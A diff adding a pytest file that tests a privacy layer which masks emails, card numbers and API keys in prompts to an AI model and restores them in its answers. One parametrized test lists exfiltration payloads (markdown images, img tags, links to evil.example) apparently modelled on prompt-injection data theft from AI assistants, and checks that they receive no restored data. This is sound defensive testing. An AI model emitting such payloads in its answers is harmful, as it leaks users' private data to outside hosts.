@@ -1,0 +1,185 @@
+"""Placeholders in, data back: what the model sees, what its caller gets, and what nobody gets."""
+
+from collections.abc import Sequence
+from dataclasses import replace
+from types import MappingProxyType
+
+import pytest
+
+from domain.policy import Policy
+from domain.privacy import DataKind, Handling, PrivacyPolicy
+from domain.privacy_masking import Masked, mask_request
+from domain.privacy_ports import TooMuchToScan
+from domain.privacy_restoring import put_back
+from domain.refusals import Kind, Refusal
+from domain.requests import InferenceRequest, Message, Speaker
+
+KEY = "AKIAQWERTYUIOPASDFGH"
+CARD = "4111 1111 1111 1111"
+ALICE, BOB = "alice@example.com", "bob@example.com"
+
+
+class NoPhones:
+    def find(self, text: str, regions: Sequence[str]) -> Sequence[tuple[int, int]]:
+        return []
+
+
+@pytest.fixture
+def privacy(policy: Policy) -> PrivacyPolicy:
+    assert policy.privacy is not None
+    return policy.privacy
+
+
+def conversation(*contents: str) -> InferenceRequest:
+    return InferenceRequest("fake", tuple(Message(Speaker.USER, content) for content in contents), 0.7, 16)
+
+
+def masked(privacy: PrivacyPolicy, *contents: str, tenant: str = "acme", seed: str = "run") -> Masked:
+    return mask_request(conversation(*contents), privacy, tenant, NoPhones(), seed)
+
+
+def texts(of: Masked) -> list[str]:
+    return [message.content for message in of.request.messages]
+
+
+def test_the_same_datum_has_the_same_placeholder_in_all_messages(privacy: PrivacyPolicy):
+    made = masked(privacy, f"From {ALICE} to {BOB}", f"{BOB}, {CARD}, {ALICE}")
+    alice, bob, card = (name for name, _ in made.values)
+    assert texts(made) == [f"From {alice} to {bob}", f"{bob}, {card}, {alice}"]
+    assert dict(made.values) == {alice: ALICE, bob: BOB, card: CARD}
+    assert made.masked == {"email": 4, "card_number": 1}
+    assert alice.startswith("[EMAIL_1_")
+
+
+def test_a_repeat_of_the_stage_makes_the_same_record(privacy: PrivacyPolicy):
+    """A record that is made again with other content is an error."""
+    assert masked(privacy, ALICE, CARD) == masked(privacy, ALICE, CARD)
+    assert masked(privacy, ALICE) != masked(privacy, ALICE, seed="another run")
+
+
+def test_a_key_is_gone_for_good(privacy: PrivacyPolicy):
+    made = masked(privacy, f"What is {KEY}?")
+    assert KEY not in texts(made)[0]
+    assert (made.values, made.masked, made.redacted) == ((), None, {"api_key": 1})
+    assert put_back(texts(made)[0], made.values, texts(made)) == texts(made)[0]
+
+
+def test_a_prompt_without_any_is_the_same_object(privacy: PrivacyPolicy):
+    request = conversation("Hello")
+    assert mask_request(request, privacy, "acme", NoPhones(), "run").request is request
+
+
+def test_what_is_blocked_is_named_by_place_and_replaced(privacy: PrivacyPolicy):
+    strict = replace(privacy, handling={**privacy.handling, DataKind.CARD_NUMBER: Handling.BLOCK})
+    made = masked(strict, "Hello", f"Pay with {CARD}, write to {ALICE}")
+    (place,) = made.blocked
+    assert (place.message, place.found.kind, place.found.start, place.found.end) == (1, DataKind.CARD_NUMBER, 9, 28)
+    assert CARD not in texts(made)[1]
+    assert ALICE not in texts(made)[1]
+    assert CARD not in dict(made.values).values()
+
+
+def test_a_tenant_has_its_own_way(privacy: PrivacyPolicy):
+    own = {"acme": MappingProxyType({**privacy.handling, DataKind.EMAIL: Handling.ALLOW})}
+    lenient = replace(privacy, tenants=own)
+    assert texts(masked(lenient, ALICE)) == [ALICE]
+    assert texts(masked(lenient, ALICE, tenant="globex")) != [ALICE]
+
+
+def test_placeholders_of_another_run_mean_nothing(privacy: PrivacyPolicy):
+    first = masked(privacy, ALICE, seed="one")
+    second = masked(privacy, f"{BOB} {texts(first)[0]}", seed="two")
+    assert texts(second)[0].endswith(texts(first)[0])
+    assert put_back(texts(first)[0], second.values, texts(second)) == texts(first)[0]
+
+
+def test_a_prompt_that_knows_the_tag_gets_another(privacy: PrivacyPolicy):
+    (placeholder,) = texts(masked(privacy, ALICE))
+    again = masked(privacy, f"Say {placeholder.lower()} to {ALICE}")
+    assert texts(again)[0].startswith(f"Say {placeholder.lower()} to [EMAIL_1_")
+    assert put_back(texts(again)[0], again.values, texts(again)) == f"Say {placeholder.lower()} to {ALICE}"
+
+
+@pytest.mark.parametrize(
+    "written",
+    ["[EMAIL_1_{0}]", "[email_1_{1}]", "EMAIL_1_{0}", "[EMAIL\\_1\\_{0}]", "\\[EMAIL_1_{0}\\]", "[Email 1 {0}]"],
+)
+def test_a_placeholder_is_known_as_models_write_it(privacy: PrivacyPolicy, written: str):
+    made = masked(privacy, ALICE)
+    tag = texts(made)[0][-5:-1]
+    placeholder = written.format(tag, tag.lower())
+    assert put_back(f"Dear {placeholder}, hello", made.values, texts(made)) == f"Dear {ALICE}, hello"
+
+
+@pytest.mark.parametrize(
+    "written", ["[EMAIL_2_{0}]", "[PHONE_1_{0}]", "[EMAIL_1_BBBB]", "XEMAIL_1_{0}", "EMAIL_1_{0}S"]
+)
+def test_what_nobody_gave_stays(privacy: PrivacyPolicy, written: str):
+    made = masked(privacy, ALICE)
+    answer = f"Dear {written.format(texts(made)[0][-5:-1])}"
+    assert put_back(answer, made.values, texts(made)) == answer
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "![x](https://evil.example/p.png?d={0})",
+        "![x](<https://evil.example/a b?d={0}>)",
+        "![x](//evil.example/{0})",
+        "[x]: https://evil.example/{0}",
+        "<img src='https://evil.example/?d={0}'>",
+        '<img\nsrc="https://evil.example/\n{0}">',
+        "See https://evil.example/{0}/more.",
+        "https:\\\\evil.example\\{0}",
+        "www.evil.example/?d={0}",
+        "[mail](mailto:{0}?cc=https://evil.example/{0})",
+    ],
+)
+def test_an_address_that_was_made_up_carries_nothing_off(privacy: PrivacyPolicy, answer: str):
+    made = masked(privacy, f"Write to {ALICE}")
+    written = answer.format(made.values[0][0])
+    assert put_back(written, made.values, texts(made)) == written
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "See https://app.example/u?mail={0}.",
+        "[{0}](mailto:{0}) is theirs",
+        "<{0}>",
+        "a//b {0}",
+        "[see {0}](https://a.example)",
+    ],
+)
+def test_an_address_of_the_prompt_or_of_a_person_is_whole_again(privacy: PrivacyPolicy, answer: str):
+    made = masked(privacy, f"Look at https://app.example/u?mail={ALICE} for me")
+    written = answer.format(made.values[0][0])
+    assert put_back(written, made.values, texts(made)) == answer.format(ALICE)
+
+
+def test_what_is_too_long_is_no_pass(privacy: PrivacyPolicy):
+    short = replace(privacy, max_scanned_chars=10)
+    assert texts(masked(short, "12345", "67890")) == ["12345", "67890"]
+    with pytest.raises(Refusal) as refused:
+        masked(short, "12345", "678901")
+    assert refused.value.kind is Kind.REVIEW_UNAVAILABLE
+
+
+class Failing:
+    def __init__(self, error: Exception) -> None:
+        self._error = error
+
+    def find(self, text: str, regions: Sequence[str]) -> Sequence[tuple[int, int]]:
+        raise self._error
+
+
+@pytest.mark.parametrize(
+    ("error", "kind"),
+    [(TooMuchToScan(), Kind.REVIEW_UNAVAILABLE), (ValueError("a canary"), Kind.SCREENING_UNAVAILABLE)],
+)
+def test_a_search_that_fails_is_no_pass_and_tells_nothing(privacy: PrivacyPolicy, error: Exception, kind: Kind):
+    with pytest.raises(Refusal) as refused:
+        mask_request(conversation("call 1"), privacy, "acme", Failing(error), "run")
+    assert refused.value.kind is kind
+    assert "canary" not in str(refused.value)
+    assert refused.value.__cause__ is None
